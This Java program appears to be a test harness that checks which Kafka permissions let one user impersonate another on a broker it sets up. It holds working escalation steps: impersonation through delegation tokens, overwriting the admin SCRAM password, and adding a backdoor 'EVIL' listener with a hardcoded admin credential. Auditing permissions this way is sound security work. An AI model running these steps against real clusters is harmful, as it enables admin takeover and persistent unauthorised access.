import java.util.Arrays;
import java.util.Base64;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.concurrent.Callable;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.AlterConfigOp;
import org.apache.kafka.clients.admin.ConfigEntry;
import org.apache.kafka.clients.admin.CreateDelegationTokenOptions;
import org.apache.kafka.clients.admin.DescribeDelegationTokenOptions;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.clients.admin.ScramCredentialInfo;
import org.apache.kafka.clients.admin.ScramMechanism;
import org.apache.kafka.clients.admin.UserScramCredentialUpsertion;
import org.apache.kafka.common.acl.AccessControlEntry;
import org.apache.kafka.common.acl.AclBinding;
import org.apache.kafka.common.acl.AclOperation;
import org.apache.kafka.common.acl.AclPermissionType;
import org.apache.kafka.common.config.ConfigResource;
import org.apache.kafka.common.resource.PatternType;
import org.apache.kafka.common.resource.ResourcePattern;
import org.apache.kafka.common.resource.ResourceType;
import org.apache.kafka.common.security.auth.KafkaPrincipal;
import org.apache.kafka.common.security.token.delegation.DelegationToken;

/** Acts as somebody else by each right for which that is said, on a real broker. Prints a line for each attempt. */
public class IdentityJudge {
    private static String servers;
    private static int node;

    public static void main(String[] arguments) throws Exception {
        servers = arguments[0];
        int free = Integer.parseInt(arguments[2]);
        try (Admin boss = scram("admin", arguments[1], false)) {
            node = boss.describeCluster().nodes().get().iterator().next().id();
            boss.createTopics(List.of(new NewTopic("secret", 1, (short) 1))).all().get();
            allow(boss, ResourceType.TOPIC, "secret", "victim", AclOperation.DESCRIBE);
            tokens(boss);
            alter(boss);
            alterConfigs(boss, free);
        }
    }

    private static void tokens(Admin boss) throws Exception {
        KafkaPrincipal victim = new KafkaPrincipal("User", "victim");
        CreateDelegationTokenOptions wish = new CreateDelegationTokenOptions().owner(victim);
        DescribeDelegationTokenOptions all = new DescribeDelegationTokenOptions().owners(List.of(victim));
        try (Admin maker = bearer("maker"); Admin reader = bearer("reader")) {
            attempt("maker without CREATE_TOKENS", () -> maker.createDelegationToken(wish).delegationToken().get());
            allow(boss, ResourceType.USER, "User:victim", "maker", AclOperation.CREATE_TOKENS);
            DelegationToken token = eventually(() -> maker.createDelegationToken(wish).delegationToken().get());
            attempt("maker by its own login", () -> sees(maker));
            String id = token.tokenInfo().tokenId();
            String hmac = Base64.getEncoder().encodeToString(token.hmac());
            try (Admin asVictim = scram(id, hmac, true)) {
                attempt("maker by a token of victim", () -> eventually(() -> sees(asVictim)));
                attempt("a token by a token", () -> asVictim.createDelegationToken().delegationToken().get());
                DescribeDelegationTokenOptions victims = new DescribeDelegationTokenOptions().owners(List.of(victim));
                lock(boss, "maker");
                attempt("a locked maker reads the secret", () -> maker.describeDelegationToken(victims).delegationTokens().get().get(0));
                attempt("and acts by the token", () -> sees(asVictim));
                lock(boss, "victim");
                attempt("until the owner is locked", () -> refused(asVictim));
            }
            attempt("reader without DESCRIBE_TOKENS", () -> reader.describeDelegationToken(all).delegationTokens().get().get(0));
            allow(boss, ResourceType.USER, "User:victim", "reader", AclOperation.DESCRIBE_TOKENS);
            DelegationToken seen = eventually(() -> reader.describeDelegationToken(all).delegationTokens().get().get(0));
            System.out.println("reader has the secret: " + (Arrays.equals(seen.hmac(), token.hmac()) ? "yes" : "no"));
        }
    }

    private static void alter(Admin boss) throws Exception {
        try (Admin altering = bearer("altering")) {
            AclBinding own = binding(ResourceType.TOPIC, "secret", "altering", AclOperation.DESCRIBE);
            attempt("altering without ALTER", () -> altering.createAcls(List.of(own)).all().get());
            allow(boss, ResourceType.CLUSTER, "kafka-cluster", "altering", AclOperation.ALTER);
            attempt("altering grants itself", () -> eventually(() -> {
                altering.createAcls(List.of(own)).all().get();
                return sees(altering);
            }));
            ScramCredentialInfo how = new ScramCredentialInfo(ScramMechanism.SCRAM_SHA_512, 4096);
            altering.alterUserScramCredentials(List.of(new UserScramCredentialUpsertion("admin", how, "mine"))).all().get();
            try (Admin asAdmin = scram("admin", "mine", false)) {
                attempt("altering as the super user", () -> eventually(() -> asAdmin.describeAcls(
                    org.apache.kafka.common.acl.AclBindingFilter.ANY).values().get()));
            }
        }
    }

    private static void alterConfigs(Admin boss, int free) throws Exception {
        ConfigResource broker = new ConfigResource(ConfigResource.Type.BROKER, String.valueOf(node));
        try (Admin configuring = bearer("configuring")) {
            Map<String, String> now = new java.util.HashMap<>();
            boss.describeConfigs(List.of(broker)).all().get().get(broker).entries().forEach(e -> now.put(e.name(), e.value()));
            String jaas = "org.apache.kafka.common.security.plain.PlainLoginModule required user_admin=\"evil\";";
            Collection<AlterConfigOp> changes = List.of(
                set("listeners", now.get("listeners") + ",EVIL://127.0.0.1:" + free),
                set("listener.security.protocol.map", now.get("listener.security.protocol.map") + ",EVIL:SASL_PLAINTEXT"),
                set("listener.name.evil.sasl.enabled.mechanisms", "PLAIN"),
                set("listener.name.evil.plain.sasl.jaas.config", jaas));
            attempt("configuring without ALTER_CONFIGS",
                () -> configuring.incrementalAlterConfigs(Map.of(broker, changes)).all().get());
            allow(boss, ResourceType.CLUSTER, "kafka-cluster", "configuring", AclOperation.ALTER_CONFIGS);
            attempt("configuring adds a listener",
                () -> eventually(() -> configuring.incrementalAlterConfigs(Map.of(broker, changes)).all().get()));
        }
    }

    private static AlterConfigOp set(String name, String value) {
        return new AlterConfigOp(new ConfigEntry(name, value), AlterConfigOp.OpType.SET);
    }

    private static Object sees(Admin admin) throws Exception {
        return admin.describeTopics(List.of("secret")).allTopicNames().get();
    }

    private static void allow(Admin boss, ResourceType type, String name, String who, AclOperation right) throws Exception {
        boss.createAcls(List.of(binding(type, name, who, right))).all().get();
    }

    /** What {@code reconciler lock} denies. */
    private static void lock(Admin boss, String who) throws Exception {
        AccessControlEntry all = new AccessControlEntry("User:" + who, "*", AclOperation.ALL, AclPermissionType.DENY);
        List<AclBinding> denials = new java.util.ArrayList<>();
        for (ResourceType type : ResourceType.values()) {
            if (type == ResourceType.UNKNOWN || type == ResourceType.ANY) continue;
            String name = type == ResourceType.CLUSTER ? "kafka-cluster" : "*";
            denials.add(new AclBinding(new ResourcePattern(type, name, PatternType.LITERAL), all));
        }
        boss.createAcls(denials).all().get();
    }

    /** Waits until it may no longer: brokers enforce a moment after the controller has written. */
    private static Object refused(Admin admin) throws Exception {
        for (int tries = 0; tries < 40; tries++) {
            sees(admin);
            Thread.sleep(250);
        }
        return null;
    }

    private static AclBinding binding(ResourceType type, String name, String who, AclOperation right) {
        return new AclBinding(new ResourcePattern(type, name, PatternType.LITERAL),
            new AccessControlEntry("User:" + who, "*", right, AclPermissionType.ALLOW));
    }

    private static void attempt(String what, Callable<?> action) {
        try {
            action.call();
            System.out.println(what + ": yes");
        } catch (Exception error) {
            Throwable cause = error.getCause() == null ? error : error.getCause();
            System.out.println(what + ": " + cause.getClass().getSimpleName());
        }
    }

    /** Brokers enforce a moment after the controller has written. */
    private static <T> T eventually(Callable<T> action) throws Exception {
        for (int tries = 0; ; tries++) {
            try {
                return action.call();
            } catch (Exception error) {
                if (tries == 40) throw error;
                Thread.sleep(250);
            }
        }
    }

    private static Admin bearer(String user) {
        return admin("OAUTHBEARER", "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required "
            + "unsecuredLoginStringClaim_sub=\"" + user + "\";");
    }

    private static Admin scram(String user, String password, boolean token) {
        return admin("SCRAM-SHA-512", "org.apache.kafka.common.security.scram.ScramLoginModule required username=\""
            + user + "\" password=\"" + password + "\"" + (token ? " tokenauth=\"true\"" : "") + ";");
    }

    private static Admin admin(String mechanism, String jaas) {
        Properties settings = new Properties();
        settings.put("bootstrap.servers", servers);
        settings.put("security.protocol", "SASL_PLAINTEXT");
        settings.put("sasl.mechanism", mechanism);
        settings.put("sasl.jaas.config", jaas);
        settings.put("default.api.timeout.ms", "15000");
        settings.put("request.timeout.ms", "5000");
        return Admin.create(settings);
    }
}
